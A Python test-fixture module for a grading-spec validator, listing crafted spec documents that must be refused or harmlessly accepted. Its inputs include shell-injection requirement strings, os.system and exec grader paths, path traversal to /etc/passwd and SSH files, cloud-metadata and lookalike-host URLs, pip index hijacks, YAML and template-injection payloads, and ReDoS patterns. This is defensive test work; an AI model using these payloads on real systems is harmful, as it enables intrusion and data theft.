"""Documents as somebody would write them who wants more of a project than to be graded with.

Each is (what it tries, bytes). `REFUSED` must be refused; `HARMLESS` may also be accepted, as long
as nothing comes of it.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any, Final

import rfc8785

sys.path.insert(0, str(Path(__file__).parent))
from project_kit import GRADER, LABELS, plain

NAME: Final = "legal/tags"
CANARY: Final = "canary"
EVIL: Final = f"open({CANARY!r}, 'w').close()\n\n\ndef f(sample):\n    return 1.0\n"


def written(**changes: Any) -> bytes:
    """Return a document's canonical bytes, whatever stands in it."""
    return rfc8785.dumps({"format": "rft-spec/1", **plain(**changes)})


def graded(use: str, config: dict[str, Any], **changes: Any) -> bytes:
    """Return the document of one grader."""
    section = {"use": use, "config": config}
    return written(reward=None, grader=section, requires=None, graders=None, **changes)


def schema(found: Any, **files: str) -> bytes:
    return graded("json_schema", {"schema": found}, files=files)


def judge(**changes: Any) -> bytes:
    verdict = {"mode": "score", "range": [0, 10]}
    return graded("judge", {"model": "m", "instructions": "i", "verdict": verdict, **changes})


def formula(text: str) -> bytes:
    return written(reward={"graders": {"f1": GRADER}, "formula": text}, requires=None)


def raw(text: str) -> bytes:
    """Return a document with text of JSON in the place of its notes."""
    return written(notes="HERE").replace(b'"HERE"', text.encode("utf-8", "surrogatepass"))


def nested(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


def many_graders(count: int, **section: Any) -> bytes:
    graders = {f"g{index}": {"use": "multilabel", "config": LABELS} for index in range(count)}
    return written(reward={"graders": graders, **section}, requires=None)


CODE: Final = {
    "a function of the standard library": graded("function", {"path": "os:system"}),
    "a builtin": graded("function", {"path": "builtins:exec"}),
    "a module that does something": graded("function", {"path": "antigravity:geohash"}),
    "a module in the project": graded("function", {"path": "evil:f"}),
    "a file of its own": graded("function", {"path": "evil.py:f"}, files={"evil.py": EVIL}),
    "a file above it": graded("function", {"path": "../../../../evil.py:f"}),
    "a list in place of a path": graded("function", {"path": ["os:system"]}),
}
PATHS: Final = {
    "a path upwards": schema("../../../../../../../../../../etc/passwd"),
    "an absolute path": schema("/etc/passwd"),
    "a path at home": schema("~/.ssh/known_hosts"),
    "a path with NUL": schema("s.json\x00.txt"),
    "a device": schema("/dev/zero"),
    "a file that it does not carry": schema("more.json"),
    "vocabulary above": graded("multilabel", {**LABELS, "vocabulary": "../../../../words.json"}),
    "instructions of a judge in a file": judge(instructions={"file": "/etc/passwd"}),
    "a cache elsewhere": judge(cache="../../../../../../tmp/x.sqlite"),
    "a cache over a file": judge(cache="/etc/cache.sqlite"),
    **{
        f"a file called {name!r}": written(files={name: "x"})
        for name in (
            "../up", "/etc/x", "a/../../x", "spec.json", "SPEC.JSON", "a\\..\\x", "C:x", "",
            ".git/hooks/post-checkout", "a//b", "x\n", "x\x00", "\u202etxt.x", "a/b/c/d/e/f",
            "x" * 500,
        )
    },
    "files that differ by case": written(files={"a.txt": "1", "A.txt": "2"}),
}  # fmt: skip
NETWORK: Final = {
    "the cloud's metadata": judge(endpoint={"base_url": "http://169.254.169.254/v1"}),
    "a host after a user": judge(endpoint={"base_url": "https://api.openai.com@evil.org/v1"}),
    "a host like OpenAI's": judge(endpoint={"base_url": "https://api.openai.com.evil.org/v1"}),
    "another port of OpenAI's": judge(endpoint={"base_url": "https://api.openai.com:444/v1"}),
    "a file as address": judge(endpoint={"base_url": "file:///etc/passwd"}),
    "a variable that is no key": judge(endpoint={"api_key_env": "AWS_SECRET_ACCESS_KEY"}),
}
JSON: Final = {
    "a key twice": written().replace(b'"name":', b'"name":"legal/other","name":'),
    "NaN": raw("NaN"),
    "infinity": raw("1e999"),
    "a whole number of 400 digits": raw("1" + "0" * 400),
    "a number of 5,000 digits": raw("1" * 5_000),
    "brackets without end": raw("[" * 200_000),
    "objects without end": raw('{"a":' * 100_000),
    "41 levels": rfc8785.dumps({"a": nested(41)}),
    "a config that is too deep": graded("multilabel", {**LABELS, "reference": nested(38)}),
    "ten megabytes": raw('"' + "x" * 10_000_000 + '"'),
    "a million values": raw("[" + "0," * 900_000 + "0]"),
    "half a surrogate": raw('"\\ud800"'),
    "no UTF-8": written().replace(b"The", b"\xff\xfe"),
    "a byte order mark": b"\xef\xbb\xbf" + written(),
    "spaces": json.dumps(json.loads(written()), indent=1).encode(),
    "nothing": b"",
    "zeros": bytes(1_000),
    "a list": b"[]",
    "a text": b'"legal/tags"',
    "null": b"null",
    "YAML": b"name: !!python/object/apply:os.system [touch canary]\n",
}
TEXTS: Final = {
    f"{key} with {what}": written(**{key: wrap(text)})
    for what, text in (
        ("a colour", "\x1b[31mred\x1b[0m"),
        ("a title of the terminal", "\x1b]0;title\x07"),
        ("text turned round", "safe \u202e\u0661.evil"),
        ("a width of zero", "a\u200bb"),
        ("a carriage return", "real\rfake"),
        ("NUL", "a\x00b"),
    )
    for key, wrap in (
        ("description", str),
        ("notes", str),
        ("owners", lambda text: [text]),
        ("columns", lambda text: {text: "x"}),
        ("changelog", lambda text: [{"version": "1.0.0", "date": "2026-01-02", "changes": text}]),
    )
}
NAMES: Final = {
    "a homoglyph of a grader": graded("mult\u0456label", LABELS),
    "a grader with colours": graded("\x1b[31mmultilabel", LABELS),
    "an option with colours": graded("multilabel", {**LABELS, "\x1b[31m\u202e": 1}),
    "another spec as its grader": graded("legal/other", {}),
    "a grader by its module": graded("rft_core.function_grader:FunctionGrader", {}),
    "a shell's command as requirement": written(requires={"a; touch canary": ""}),
    "an address as requirement": written(requires={"a @ https://evil.org/a.whl": ""}),
    "options of pip as requirement": written(requires={"--index-url=https://evil.org": ""}),
    "a requirement that is not there": written(requires={"rft-evil": "===1'$(touch$IFS-canary)'"}),
    "an extra of a requirement": written(requires={"rft-core[train]": ""}),
    "a licence that is none": written(license="\x1b[31m"),
    **{
        f"the name {name!r}": written(name=name)
        for name in ("../../etc", "legal/../x", "legal\\tags", "Legal/tags", "l\u0435gal/tags",
                     "con/nul", "legal/tags\n", "", "a/b/c", "a" * 1_000 + "/b", "legal/other")
    },
    **{
        f"the version {version!r}": written(version=version)
        for version in ("1.0.0+build", "../1.0.0", "1", "v1.0.0", "1." + "0" * 90,
                        "9" * 5_000 + ".0.0", "\u0661.0.0", "0.9.9")
    },
}  # fmt: skip
WORK: Final = {
    "a formula with code": formula("__import__('os').system('touch canary')"),
    "a formula with attributes": formula("f1.__class__.__mro__"),
    "a tower of powers": formula("9**9**9**9**9"),
    "a formula in thousands of brackets": formula("(" * 5_000 + "f1" + ")" * 5_000),
    "a formula of minus signs": formula("-" * 50_000 + "f1"),
    "a long formula": formula("+".join(["f1"] * 30_000)),
    "thousands of graders": many_graders(9_000),
    "thousands of graders of no name": many_graders(3_000, formula="nobody"),
    "a formula of thousands of graders": many_graders(
        3_000, formula="+".join(f"g{index}" for index in range(3_000))
    ),
    "templates that run": judge(instructions="{{ item.__class__.__mro__[1].__subclasses__() }}"),
    "templates with loops": judge(instructions="{% for x in range(10**9) %}x{% endfor %}"),
    "a schema from the network": schema({"$ref": "http://169.254.169.254/latest"}),
    "a schema of a file": schema({"$ref": "file:///etc/passwd"}),
    "a JSONPath that is none": graded("multilabel", {"labels": "$[" * 9_000}),
    "shaper that is none": written(reward={"graders": {"f": GRADER}, "shapers": [{"use": "os"}]}),
}
CASE: Final = {"item": {"reference_answer": ["a"]}, "expected": 1.0}
REFUSED: Final = {**CODE, **PATHS, **NETWORK, **JSON, **TEXTS, **NAMES, **WORK}
HARMLESS: Final = {
    "a file that is a folder too": written(files={"s.json": "{}", "a": "1", "a/b": "2"}),
    "markup": written(description="[red]a[/red] [link=http://x.org]b[/link] [/] [[", notes="[/]"),
    "markdown and HTML": written(notes="<script>alert(1)</script> ![](http://evil.org/x)"),
    "a version with a line break": written(version="1.0.0\n"),
    "a card that is none": written(card={"passed": "\x1b[31m", "measures": nested(20)}),
    "a card with markup": written(card={"passed": True, "measures": [], "name": "\x1b]0;x\x07"}),
    "a schema that refers to itself": schema({"$ref": "#"}),
    "a schema of hungry patterns": graded(
        "json_schema",
        {"schema": {"type": "string", "pattern": "^(a+)+$"}},
        cases=[{**CASE, "completion": '"' + "a" * 40 + '!"'}],
        scores=[0.0],
    ),
    "a schema of large numbers": schema({"type": "array", "minItems": 9007199254740991}),
    "a greedy JSONPath": graded("multilabel", {"labels": "$..*..*..*..*..*..*"}),
    "a JSONPath of a thousand steps": graded("multilabel", {"labels": "$" + ".a" * 1_000}),
    "a JSONPath with a hungry pattern": graded(
        "multilabel", {"labels": "$.a[?match(@, '(a+)+b')]"}
    ),
    "a completion of a megabyte": graded(
        "multilabel", LABELS, cases=[{**CASE, "completion": "[" * 1_000_000}], scores=[0.0]
    ),
    "a deadline of ages": written(
        reward=None, grader={**GRADER, "timeout": 1e300}, cases=[{**CASE, "completion": "{}"}],
        scores=[0.0],
    ),
    "weights beyond all numbers": written(
        reward={"graders": {k: {**GRADER, "weight": 1.7e308} for k in "abcdef"}},
        cases=[{**CASE, "completion": '{"labels": ["a"]}'}], scores=[0.0],
    ),
    "cases that are none": graded("multilabel", LABELS, cases=[{"a": 1}], scores=[1.0]),
    "cases that compare with nothing": graded(
        "multilabel", LABELS, scores=[1.0],
        cases=[{**CASE, "completion": "x", "expected": {"higher_than": "nobody"}}],
    ),
    "thousands of cases": graded(
        "multilabel", LABELS, scores=[0.0] * 4_000, cases=[{**CASE, "completion": "x"}] * 4_000
    ),
    "scores that are words": graded(
        "multilabel", LABELS, scores=["\x1b[31m"], cases=[{**CASE, "completion": "x"}]
    ),
}  # fmt: skip
